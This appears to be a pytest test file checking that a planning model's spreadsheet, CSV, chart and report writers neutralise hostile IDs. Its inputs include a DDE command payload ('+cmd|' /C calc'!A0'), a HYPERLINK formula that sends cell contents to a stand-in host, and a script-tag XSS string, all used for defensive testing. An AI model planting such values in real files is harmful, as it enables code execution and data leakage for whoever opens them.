"""Ids from the workbook that look like formulas, mathtext, very long or non-ASCII names, or markup,
run through every writer: spreadsheet cells stay literal text, CSV cells a spreadsheet would run
are neutralised, charts get distinct bounded file names, and the report never calls a target met
that the achieved share says is missed."""

from __future__ import annotations

import csv
import re

import openpyxl
import pandas as pd
import pytest

pytestmark = pytest.mark.filterwarnings("ignore:Glyph:UserWarning")  # CJK and control characters: boxes

from model.analysis import policy_status
from model.overview import write_overview
from model.write.charts import slugs, write_charts
from model.write.csv import write_csv
from model.write.report import write_report
from model.write.tables import write_tables_xlsx
from model.write.xlsx import write_xlsx
from test_libreoffice import SOFFICE, convert

FORMULA = '=HYPERLINK("http://x/?"&A1,"click")'
MATH = "$x^$"  # a mathtext parse error if drawn as mathtext
LONG = "R" * 300
BEIJING, TOKYO = "北京", "東京"  # both slugged to the same name before
MARKUP = 'a\n"b" <script>alert(1)</script>'
REGIONS = [FORMULA, MATH, LONG, BEIJING, TOKYO, MARKUP]
SUPPLIER, OTHER = "@SUM(1+1)", "-2+3"
PLUS, TAB, CR = "+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"
YEARS = [2025, 2026]


def hostile_tables() -> dict[str, pd.DataFrame]:
    """Plan tables by hand: one project, cap and price per hostile region; the largest supplier
    at 90 % against a 65 % cap with no shortfall bought (the solver dropped tiny coefficients)."""
    rows = lambda recs: pd.DataFrame.from_records(recs)  # noqa: E731
    builds = rows([{"project": f"{r}|p", "technology": PLUS, "stage": "manufacturing", "region": r,
                    "start_year": 2025, "online_year": 2026, "capacity_tpa": 10.0, "capex_musd": 5.0}
                   for r in REGIONS])
    capacity = rows([{"project": f"{r}|p", "technology": PLUS, "stage": "manufacturing", "region": r, "year": y,
                      "existing_tpa": 0.0, "committed_tpa": 0.0, "new_tpa": 10.0, "capacity_tpa": 10.0,
                      "activity_t": 8.0} for r in REGIONS for y in YEARS])
    policies = rows([{"policy": f"{r}cap", "kind": "max_supplier_share", "region": r, "material": "NdPr",
                      "stage": "manufacturing", "supplier": q, "year": y, "share": 0.65, "consumption_t": 100.0,
                      "target_t": 65.0, "achieved_t": a, "achieved_share": a / 100, "shortfall_t": 0.0,
                      "shadow_price_usd_per_t": 0.0, "binding": "no"}
                     for r in REGIONS for q, a in ((SUPPLIER, 90.0), (OTHER, 10.0)) for y in YEARS])
    budgets = rows([{"budget": CR, "year": y, "region": FORMULA, "stage": "*", "carryover": "yes",
                     "available_musd": 10.0, "spend_musd": 5.0, "shadow_price_usd_per_usd": 0.0, "binding": "no"}
                    for y in YEARS])
    spend = rows([{"project": f"{FORMULA}|p", "technology": PLUS, "stage": "manufacturing", "region": FORMULA,
                   "year": 2025, "spend_musd": 5.0}])
    prices = rows([{"region": r, "commodity": TAB, "year": y, "price_usd_per_t": 1000.0 + y}
                   for r in REGIONS for y in YEARS])
    costs = rows([{"component": c, "year": y, "cost_musd": v, "discounted_musd": v}
                  for c, v in (("capex", 30.0), ("salvage", -5.0)) for y in YEARS])
    unmet = rows([{"region": r, "commodity": TAB, "year": y, "demand_t": 100.0, "unmet_t": 0.0}
                  for r in REGIONS for y in YEARS])
    return {"builds": builds, "capacity": capacity, "policies": policies, "budgets": budgets, "spend": spend,
            "prices": prices, "costs": costs, "unmet": unmet}


SUMMARY = {"status": "optimal", "objective_musd": 50.0, "workbook": "study.xlsx", "scenario": FORMULA,
           "cost_by_component_musd": {"capex": 60.0, "salvage": -10.0}}


@pytest.fixture(scope="module")
def written(tmp_path_factory):
    """Every writer run on the hostile tables into one folder."""
    folder = tmp_path_factory.mktemp("hostile")
    tables = hostile_tables()
    (folder / "csv").mkdir()
    for name, df in tables.items():
        write_csv(df, folder / "csv" / f"{name}.csv")
    write_xlsx(folder / "plan.xlsx", SUMMARY, tables)
    charts = write_charts(folder, tables, SUMMARY)
    write_report(folder, tables, SUMMARY, charts)
    return folder, tables, charts


def text_cells(path):
    wb = openpyxl.load_workbook(path)  # data_only=False: formulas would come back as formulas
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None
            and c.data_type != "n"]


@pytest.mark.parametrize("text", [FORMULA, f"{FORMULA}|p", f"{FORMULA}cap", SUPPLIER, OTHER, PLUS, TAB, CR,
                                  MATH, LONG, MARKUP, BEIJING])
def test_plan_xlsx_holds_ids_as_literal_text(written, text):
    folder, _, _ = written
    # XML reads a bare carriage return back as a line feed, unless the writer escaped it (lxml: _x000D_)
    cells = [c for c in text_cells(folder / "plan.xlsx") if c.value in (text, text.replace("\r", "\n"))]
    assert cells, f"{text!r} not found as a cell"
    assert {c.data_type for c in cells} == {"s"}
    if text[0] in "=+-@\t\r":
        assert all(c.quotePrefix for c in cells)  # stays text when edited in Excel


def test_plan_xlsx_has_no_formula_anywhere(written):
    folder, _, _ = written
    cells = text_cells(folder / "plan.xlsx")
    assert {c.data_type for c in cells} <= {"s"}
    wb = openpyxl.load_workbook(folder / "plan.xlsx")
    summary = {r[0]: r[1] for r in wb["summary"].iter_rows(values_only=True)}
    assert summary["scenario"] == FORMULA
    # the chart series are named from header cells holding the ids as text
    assert f"{FORMULA}cap: largest supplier" in [c.value for c in wb["chart_import_dependence"][2]]
    assert wb["spend"]["A2"].value == f"{FORMULA}|p"  # the spend table has its sheet like any other


@pytest.mark.parametrize("table, column, raw", [
    ("builds", "project", f"{FORMULA}|p"),
    ("builds", "technology", PLUS),
    ("policies", "policy", f"{FORMULA}cap"),
    ("policies", "supplier", SUPPLIER),
    ("policies", "supplier", OTHER),
    ("prices", "commodity", TAB),
    ("budgets", "budget", CR),
    ("prices", "region", MATH),
    ("prices", "region", MARKUP),
])
def test_csv_text_a_spreadsheet_would_run_gets_a_quote(written, table, column, raw):
    folder, _, _ = written
    with open(folder / "csv" / f"{table}.csv", newline="", encoding="utf-8") as f:
        values = {r[column] for r in csv.DictReader(f)}
    want = ("'" + raw if raw[0] in "=+-@\t\r" else raw).replace("\r", "\n")
    assert want in values
    assert raw not in values or want == raw


def test_csv_numbers_are_never_quoted(written):
    folder, _, _ = written
    lines = (folder / "csv" / "costs.csv").read_text().splitlines()
    assert lines == ["component,year,cost_musd,discounted_musd",
                     "capex,2025,30,30", "capex,2026,30,30", "salvage,2025,-5,-5", "salvage,2026,-5,-5"]


def test_csv_headers_are_neutralised_and_carriage_returns_cannot_start_a_row(tmp_path):
    write_csv(pd.DataFrame({"=1+1 share": [-0.5], "policy": ["-x"], "n": [-3], "id": ["a\r=1+1"]}),
              tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_bytes() == b"'=1+1 share,policy,n,id\n-0.5,'-x,-3,\"a\n=1+1\"\n"


def test_charts_have_distinct_bounded_safe_file_names(written):
    folder, _, charts = written
    names = [p.name for p in charts]
    supply = [n for n in names if n.startswith("supply_mix_")]
    assert len(supply) == len(REGIONS) == len(set(supply))
    assert len({n.lower() for n in names}) == len(names)
    assert all(re.fullmatch(r"[A-Za-z0-9_.-]+\.png", n) and len(n) <= 80 for n in names), names
    assert sorted(p.name for p in (folder / "charts").iterdir()) == sorted(names)
    assert {p.subject for p in charts if p.name.startswith("supply_mix_")} == set(REGIONS)
    assert "capital_spend.png" in names


@pytest.mark.parametrize("ids, want", [
    (["EU", "US"], {"EU": "EU", "US": "US"}),
    (["EU", "eu"], {"EU": "EU", "eu": "eu-" + __import__("hashlib").sha1(b"eu").hexdigest()[:8]}),
    ([BEIJING, TOKYO], None),
    ([LONG], None),
])
def test_slugs_are_unique_and_bounded(ids, want):
    got = slugs(ids)
    if want is not None:
        assert got == want
    assert len({s.lower() for s in got.values()}) == len(ids)
    assert all(re.fullmatch(r"[A-Za-z0-9_.-]{1,49}", s) for s in got.values())


def test_report_does_not_call_a_broken_cap_met(written):
    folder, tables, _ = written
    status = policy_status(tables["policies"])
    assert not status["met"].any() and (status["shortfall_t"] == 0).all()
    md = (folder / "report.md").read_text()
    assert "Every target is met" not in md
    assert "Missed in some years" in md
    assert ("missed in 2025-2026 (no shortfall bought, the plan breaks the target; largest supplier at 90.0% at "
            "worst against 65%, 90.0% in 2026)") in md
    assert r'| a "b" &lt;script&gt;alert(1)&lt;/script&gt; | ' in md  # one table row, markup as text
    page = (folder / "report.html").read_text()
    assert "<script>" not in page and "&lt;script&gt;" in page
    assert page.count("<img") == len(list((folder / "charts").iterdir()))


def test_summary_sheet_shows_the_broken_cap_as_missed(written):
    folder, _, _ = written
    ws = openpyxl.load_workbook(folder / "plan.xlsx")["summary"]
    row = next(r for r in ws.iter_rows() if r[0].value == f"{LONG}cap")
    assert row[3].value == "0 of 2" and row[3].fill.fgColor.rgb.endswith("FFC7CE")


def test_overview_and_diff_workbooks_hold_text(tmp_path):
    df = pd.DataFrame({"scenario": [FORMULA], "status": ["optimal"], f"{PLUS} 2030 share": [0.5],
                       "objective_musd": [-5.0]})
    csv_path, xlsx_path = write_overview(tmp_path, df)
    with open(csv_path, newline="", encoding="utf-8") as f:
        assert list(csv.reader(f)) == [["scenario", "status", f"'{PLUS} 2030 share", "objective_musd"],
                                       [f"'{FORMULA}", "optimal", "0.5", "-5"]]
    wb = openpyxl.load_workbook(xlsx_path)
    ws = wb["overview"]
    assert (ws["A2"].value, ws["A2"].data_type) == (FORMULA, "s")
    assert ws["C2"].value == -5.0
    ws = wb["policy shares"]  # the policy columns, one row per policy and scenario
    assert [(c.value, c.data_type) for c in ws[2]] == [(PLUS, "s"), (FORMULA, "s"), (0.5, "n")]
    write_tables_xlsx(tmp_path / "diff.xlsx", {"d": pd.DataFrame({"id": [TAB, "#N/A"]})})
    ws = openpyxl.load_workbook(tmp_path / "diff.xlsx")["d"]
    assert [(c.value, c.data_type) for c in ws["A"][1:]] == [(TAB, "s"), ("#N/A", "s")]


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_shows_the_formula_as_text(tmp_path, written):
    write_tables_xlsx(tmp_path / "t.xlsx", {"t": pd.DataFrame({"id": [FORMULA, "=1+1", "@SUM(1+1)"]})})
    out = convert(tmp_path / "t.xlsx", "csv", tmp_path / "csv", tmp_path / "profile")
    rows = list(csv.reader(out.read_text(encoding="utf-8").splitlines()))
    assert rows == [["id"], [FORMULA], ["=1+1"], ["@SUM(1+1)"]]
    # plan.xlsx: its first sheet, the summary, names the scenario and the policies as typed
    out = convert(written[0] / "plan.xlsx", "csv", tmp_path / "plan", tmp_path / "profile")
    with open(out, newline="", encoding="utf-8") as f:
        by_label = {r[0]: r[1:] for r in csv.reader(f) if r}
    assert by_label["scenario"][0] == FORMULA
    assert f"{FORMULA}cap" in by_label and f"{FORMULA}|p" in by_label
